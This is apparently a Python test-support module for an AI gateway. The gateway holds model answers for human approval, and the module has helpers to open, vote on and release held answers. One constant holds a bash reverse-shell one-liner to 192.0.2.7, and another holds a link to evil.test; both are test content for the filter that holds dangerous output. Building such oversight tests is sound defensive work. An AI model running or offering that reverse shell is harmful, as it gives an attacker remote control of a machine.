"""A path that holds answers for a person, a model that says what is held, and those who decide over it."""

import asyncio
import json

from safeconduct.approvals import Verdict, ballot
from safeconduct.gateway.held_events import ANSWER_HELD
from support import tool_turns
from support.call_ends import ScriptedClient
from support.gateway_world import PATH
from support.patience import PATIENCE_S
from support.programs import demo_program
from support.sealed_house import SealedHouse

LINK = "Look at https://evil.test/a for more."
EXPLOIT = "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"
RULE = b"approvals:\n  answer:\n    groups:\n      - {organization: northwind, role: responder, count: 1}\n"
OUTPUT = b"{link: hold, exploit: hold, secret: withhold, canary: mark, pseudonym: mark}"
DIALECTS = b"    tools: []\n    dialects: [openai.chat, openai.responses, anthropic.messages]\n"


def program(*, rule=RULE, output=OUTPUT, source=None):
    """Returns the demo's program, or another, with a path that holds; bo lets its answers go."""
    text = (source or demo_program()).replace(b"approvals:\n", rule, 1).replace(b"    tools: []\n", DIALECTS, 1)
    text = text.replace(b"release: pass", b"release: hold-all").replace(
        b"roles: [analyst]", b"roles: [analyst, responder]"
    )
    return text.replace(b"    upstream: local\n", b"    upstream: local\n    output: " + output + b"\n", 1)


def upstream(dialect, text, *, stream):
    """Returns an upstream of one answer that says this."""
    made = tool_turns.upstream(dialect, stream=stream)
    said, wanted = json.dumps(tool_turns.SAID).encode()[1:-1], json.dumps(text).encode()[1:-1]
    made.script = [part.replace(said, wanted) if isinstance(part, bytes) else part for part in made.script]
    return made


class Holding(SealedHouse):
    """A gateway on that path. `model` is the upstream that was asked last."""

    def __init__(self, world):
        super().__init__(world)
        self.model = None

    def ask(
        self, dialect="openai.chat", text=LINK, *, by="ana", stream=False, said="hello", turns=(), model=None, **arrival
    ):
        """Makes a call; returns its client."""
        self.model = model or upstream(dialect, text, stream=stream)

        async def main():
            runtime = self.world.calls(self.model)
            client = ScriptedClient()
            came = runtime.arrival(PATH, dialect=dialect, token=self.world.tokens[by], version="2023-06-01", **arrival)
            async with asyncio.timeout(PATIENCE_S):
                await runtime.run(came, body(dialect, said, *turns, stream=stream), client)
            return client

        return asyncio.run(main())

    def held(self):
        """Returns the entry of the answer that was held last."""
        return [one for one in self.world.entries() if one.type == ANSWER_HELD.name][-1]

    def listed(self, by=None):
        """Returns what is listed of held calls, to somebody or to whoever holds the data."""
        status, found = self.get("calls/held", prefix="/api/v1", by=by)
        assert status == 200, found
        return found

    def approval(self, entry=None):
        entry = entry or self.held()
        (found,) = [one for one in self.listed() if one["entry"] == entry.id]
        return found["approval"]

    def look(self, entry=None, *, by="bo", field="answer"):
        """Opens a held answer; returns status and what was told."""
        return self.open((entry or self.held()).id, field, by=by)

    def vote(self, entry=None, *, by="bo", verdict=Verdict.APPROVE, reason="a public page", **more):
        approval = self.approval(entry)
        sent = ballot(more.get("draft", approval["draft"]), verdict, reason)
        return self.post(f"calls/held/{approval['id']}/vote", sent, by=by, prefix="/api/v1")

    def let_go(self, entry=None, **more):
        """Has bo look and approve; returns the approval's id."""
        entry = entry or self.held()
        assert self.look(entry, field=more.pop("field", "answer"))[0] == 200
        status, told = self.vote(entry, **more)
        assert (status, told["state"]) == (200, "approved")
        return told["id"]


def body(dialect, text, *turns, stream=False):
    """Returns a request that says this, or a whole conversation, and offers nothing."""
    said = turns or ({"role": "user", "content": text},)
    request = json.loads(tool_turns.request(dialect, *said, stream=stream))
    request.pop("tools")
    return json.dumps(request).encode()
